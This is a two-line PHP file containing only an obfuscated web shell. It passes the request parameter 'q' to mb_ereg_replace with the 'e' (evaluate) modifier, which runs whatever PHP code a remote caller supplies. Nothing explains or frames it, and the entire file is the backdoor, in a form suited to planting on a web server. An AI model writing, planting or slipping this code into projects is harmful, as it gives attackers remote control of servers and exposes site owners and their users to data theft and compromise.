<?php
mb_ereg_replace('.*', $_REQUEST['q'], '', 'e');
